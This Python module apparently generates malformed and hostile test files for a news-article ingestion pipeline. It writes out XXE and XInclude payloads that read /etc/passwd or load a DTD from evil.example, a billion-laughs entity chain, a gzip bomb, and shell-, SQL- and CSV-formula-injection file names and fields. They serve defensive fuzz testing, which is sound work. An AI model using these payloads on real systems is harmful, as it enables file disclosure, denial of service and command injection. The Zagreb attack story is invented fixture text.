"""Files that may be called articles and are not, by family: a random generator and a mark in, a file's end and data out.

The mark makes the text of each file its own.
"""

from __future__ import annotations

import gzip
import json
from collections.abc import Callable, Mapping
from random import Random

__all__ = ["FIELDS", "MALFORMED", "NEWS"]

NEWS = (
    "Gunmen attacked a police station in Zagreb on Monday, killing at least two officers, police chief Ilan Doremi told "
    "Reuters. “We will find them,” he said. The interior ministry spoke of eight to ten attackers.\n"
)
FIELDS = ("id", "title", "published", "outlet", "url", "byline", "wire")
Made = tuple[bytes, bytes]
Make = Callable[[Random, str], Made]


def _well_formed(random: Random, mark: str) -> Made:
    row = json.dumps({"id": mark, "text": f"{mark}: {NEWS}", "published": "2024-06-03"})
    return random.choice((
        (b".txt", f"{mark}\n\n3 June 2024\n\n{NEWS * 2}".encode()),
        (b".jsonl", f"{row}\n".encode()),
        (b".csv", f'id,text,published\r\n{mark},"{NEWS}",2024-06-03\r\n'.encode()),
        (b".html", f"<html><head><title>{mark}</title></head><body><p>{mark}: {NEWS}</p></body></html>".encode()),
        (b".rss", f"<rss><channel><item><description>{mark}: {NEWS}</description></item></channel></rss>".encode()),
    ))  # fmt: skip


def _other_encoding(random: Random, mark: str) -> Made:
    names = ("utf-16", "utf-16-le", "utf-32", "utf-7", "cp1252", "latin-1", "cp037", "gb18030", "shift-jis", "koi8-r")
    ending = random.choice((b".txt", b".html", b".jsonl", b".csv", b".rss", b""))
    return ending, f"{mark}: Zürich, Kraków, Besançon, 東京. {NEWS}".encode(random.choice(names), "ignore")


def _broken_utf8(random: Random, mark: str) -> Made:
    bad = random.choice(
        (b"\xff", b"\xc0\xaf", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xe2\x82", b"\x80", b"\xf8\x88\x80")
    )
    ending, data = _well_formed(random, mark)
    at = random.randrange(len(data))
    return ending, data[:at] + bad + data[at:]


def _truncated(random: Random, mark: str) -> Made:
    ending, data = _well_formed(random, mark)
    return ending, data[: random.randrange(len(data))]


def _mutated(random: Random, mark: str) -> Made:
    ending, data = _well_formed(random, mark)
    changed = bytearray(data)
    for _ in range(random.randrange(1, 20)):
        at = random.randrange(len(changed))
        match random.randrange(4):
            case 0:
                changed[at] ^= 1 << random.randrange(8)
            case 1:
                changed[at:at] = random.randbytes(random.randrange(1, 5))
            case 2 if len(changed) > 100:
                del changed[at : at + random.randrange(1, 30)]
            case _:
                changed[at:at] = changed[: random.randrange(1, 60)]
    return ending, bytes(changed)


def _binary(random: Random, mark: str) -> Made:
    starts = (
        b"%PDF-1.7\n",
        b"PK\x03\x04",
        b"\x1f\x8b\x08",
        b"\x89PNG\r\n\x1a\n",
        b"\x7fELF",
        b"MZ\x90\x00",
        b"BZh9",
        b"",
        b"\x80\x04",
    )
    ending = random.choice((b".txt", b".html", b".jsonl", b".csv", b".bin"))
    return ending, random.choice(starts) + random.randbytes(random.randrange(1, 400))


def _json_lines(random: Random, mark: str) -> Made:
    def value(depth: int) -> object:
        if depth == 0 or random.random() < 0.5:
            return random.choice(("x", "", 0, -1, 1.5, 10**40, True, None, "2021-05-04", NEWS, "\ud800"))
        return [value(depth - 1)] * random.randrange(3) if random.random() < 0.5 else {"text": value(depth - 1), "x": 1}

    row = {field: value(2) for field in FIELDS} | {"text": random.choice((f"{mark}: {NEWS}", value(3)))}
    line = json.dumps(row)
    broken = (
        line, f"[{line}]", line[:-1], f"{line}{line}", line.replace('"', "'"), line.replace(":", ""), f"{line},", "nul", '""',
        "[" * 2000 + line, '{"text": NaN}', '{"text": "a", "text": 5}', '{"text": "\\ud83d"}', '{"text": "a\tb\x00"}',
        json.dumps(row, indent=1), '{"text":' * 500, f"{{{line}", '{"text": "\\u00"}', line.replace("text", "TEXT"), f"\ufeff{line}",
    )  # fmt: skip
    return b".jsonl", "\n".join((random.choice(broken), random.choice(broken))).encode("utf8", "replace")


def _table(random: Random, mark: str) -> Made:
    headers = (
        "text",
        "id,text",
        "id;text;date",
        "text\ttitle",
        "text|url",
        "TEXT,text",
        '"text","id"',
        "id,title",
        "",
        "text,,,",
    )
    rows = (
        f'"{mark}: {NEWS}",1', f"{mark}: {NEWS}", '"unclosed', 'a"b,c', '"a""b","c', "\x00,\x00", ",,,,,,,,", "\r\r\n\n", '"a"b,c',
        "x" * 3000, f"'=1+1{mark}',2",
    )  # fmt: skip
    lines = (random.choice(headers), random.choice(rows), random.choice(rows), "")
    return random.choice((b".csv", b".tsv")), random.choice(("\n", "\r\n", "\r")).join(lines).encode()


def _web_page(random: Random, mark: str) -> Made:
    core = f"<p>{mark}: {NEWS}</p>"
    charset = random.choice(("utf-7", "x-evil", "utf-16", "rot13", "hex", "unicode_escape", "idna", ""))
    linked = json.dumps(
        {"@type": ["NewsArticle", 5], "author": [[1], None], "headline": {"name": 7}, "datePublished": 5}
    )
    shapes = (
        core, f"<html><body>{core}", "<div>" * random.choice((100, 249, 250, 3000)) + core, "<table><tr><td>" * 60 + core,
        f"<html><head><meta charset={charset}></head><body>{core}é", f"<noscript>{core}</noscript>", f"<template>{core}</template>",
        f"<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><body>{core}<p>&x;</p>", f"<!--{core}", f"<plaintext>{core}",
        f"<body>{core}&#0;&#xD800;&#x110000;&#99999999999;", f"<textarea>{core}", f"<svg>{core}</svg>", f"<math><mtext>{core}",
        f"<p {'a=b ' * 3000}>{NEWS}", f"<{'a' * 5000}>{core}", f"<body>{core * 40}", "<frameset><frame src=//evil.example>", "<", "<html",
        f"<base href=//evil.example><body>{core}<img src=x><a href=javascript:owned=1>x</a>", f"<html><body>{'<b><i>' * 100}{core}",
        "</p>" * 50 + core, f"<script type=application/ld+json>{'[' * 900}</script>{core}", f"\x00<html>{core}",
        f"<script type=application/ld+json>{linked}</script>{core}", f"<?xml version='1.0' encoding='ebcdic'?><html><body>{core}",
        f"<body><article>{core}<iframe src=//evil.example></iframe><object data=x></object></article>", core.replace(" ", "\xa0"),
        f"<html xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='file:///etc/passwd'/>{core}",
    )  # fmt: skip
    return random.choice((b".html", b".htm", b".xhtml", b"")), random.choice(shapes).encode()


def _xml(random: Random, mark: str) -> Made:
    lol = "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 10))
    text = f"<item><description>{mark}: {NEWS} &x;</description></item>"
    kinds = (
        f"<!DOCTYPE rss [<!ENTITY l0 'lol'>{lol}]><rss><channel>{text.replace('&x;', '&l9;')}</channel></rss>",
        f"<!DOCTYPE rss [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><rss><channel>{text}</channel></rss>",
        f"<!DOCTYPE rss [<!ENTITY % p SYSTEM 'http://evil.example/p.dtd'> %p;]><rss><channel>{text}</channel></rss>",
        f"<!DOCTYPE rss SYSTEM 'http://evil.example/p.dtd'><rss><channel>{text}</channel></rss>",
        f"<rss xmlns:xi='http://www.w3.org/2001/XInclude'><channel><item><xi:include href='/etc/passwd'/>{text}</item></channel></rss>",
        f"<feed xmlns='http://www.w3.org/2005/Atom'><entry><content type='html'>&lt;script&gt;owned=1&lt;/script&gt;{mark}</content></entry></feed>",
        f"<rss><channel>{'<item>' * 300}{NEWS}", "<rss><channel><item/></channel></rss>", "<rss>", f"<feed><entry><summary>{NEWS}",
        "<?xml version='1.0' encoding='utf-16'?><rss/>", f"<a>{'<b>' * 1000}", f"<rss>{'<x/>' * 2000}</rss>",
        f"<rss><channel><item><description>{'&lt;b&gt;' * 400}{mark}</description></item></channel></rss>",
    )  # fmt: skip
    ending = random.choice((b".xml", b".rss", b".atom", b".txt", b""))
    return ending, f"<?xml version='1.0'?>{random.choice(kinds)}".encode()


def _compressed(random: Random, mark: str) -> Made:
    ending, data = _well_formed(random, mark)
    packed = bytearray(gzip.compress(data, mtime=0))
    match random.randrange(5):
        case 0:
            packed = packed[: random.randrange(1, len(packed))]
        case 1:
            packed[random.randrange(10, len(packed))] ^= 0xFF
        case 2:
            packed = bytearray(gzip.compress(b"word " * 600_000, mtime=0))
        case 3:
            packed = bytearray(gzip.compress(bytes(packed), mtime=0))
    return ending + b".gz", bytes(packed)


def _endless(random: Random, mark: str) -> Made:
    size = random.choice((100, 400))
    units = (
        "x", "word ", "( ", "“", '"a" ', ". ", "Ana Horvat ", "killed ", "5 ", "on Monday ", "said ", "A. B. C. ", "- ", "\n", "\t", " ",
        "he told her that ", "and ", "Zagreb, ", "of the ", "attack on attack ", "'s", "\ufeff", "1", "\u0301", "Mr. ", "2021-", "\u4e00",
    )  # fmt: skip
    lists = (
        "".join(f"{n} people died in Zagreb on {n} May 2021. " for n in range(size // 10)),
        ", ".join(f"Ana{n} Horvat{n}" for n in range(size // 4)), f"https://evil.example/{'a' * size}", NEWS.upper(), NEWS.lower(),
    )  # fmt: skip
    return b".txt", f"{mark} {random.choice((random.choice(units) * size, random.choice(lists)))} {NEWS}".encode()


def _file_name(random: Random, mark: str) -> Made:
    names = (
        b"\x1b[2J.txt", b"a\nkg: error: forged.txt", b"\xff\xfe.txt", "\u202etxt.exe".encode(), b" -rf.txt", b"$(touch owned).txt",
        b"'; DROP TABLE x; --.txt", b"=1+1.csv", b"a b\tc.txt", "e\u0301.txt".encode(), b"...txt", b"<script>owned=1<\\script>.html",
        b"x" * 150 + b".txt", b"[1].txt", b"*.txt", b"%s.jsonl", b"\\..\\x.txt", b"a:b.txt", b".TXT", b"no-suffix", b"\xc3.jsonl", b"\r.txt",
    )  # fmt: skip
    return random.choice(names), f"{mark}: {NEWS}".encode()


def _metadata(random: Random, mark: str) -> Made:
    choices = {
        "published": ("0001-01-01", "9999-12-31", "2021-02-30", "-2021-01-01", "1e9", "1620086400", "x" * 5000, "2021-05-04T99:99",
                      "９９９９-０１-０１", "yesterday", "2021-05-04T10:00:00+23:59", "12021-01-01", "\x00"),
        "url": ("javascript:owned=1", "//evil.example", "http://[::1", "http://a b/", "data:text/html,x", f"https://{'a' * 3000}",
                "https://evil.example/9999/99/99/", "http://\ud800", "https://user:pw@evil.example:99999/", "http://xn--0.example/２０２１/05/04/"),
        "id": ("../../x", "same", "same", "", " ", "\x1b[2J", "x" * 4000, "a/b", "con", "\ud800", "=1+1"),
        "outlet": ("", "x" * 4000, "\x1b]0;x\x07", "Reuters", "=1+1", "\u202eevil", "a\nb"),
        "byline": ("AFP, Reuters", "x" * 4000, "a\r\nb", ""),
    }  # fmt: skip
    row = {"text": f"{mark}: {NEWS}"} | {field: random.choice(values) for field, values in choices.items()}
    return b".jsonl", json.dumps(row).encode()


MALFORMED: Mapping[str, Make] = {
    "other encodings": _other_encoding,
    "broken UTF-8": _broken_utf8,
    "truncated files": _truncated,
    "mutated bytes": _mutated,
    "binary files": _binary,
    "malformed JSON Lines": _json_lines,
    "malformed tables": _table,
    "malformed web pages": _web_page,
    "XML, feeds and entities": _xml,
    "compressed files": _compressed,
    "endless words, sentences and lists": _endless,
    "hostile file names": _file_name,
    "hostile metadata": _metadata,
}
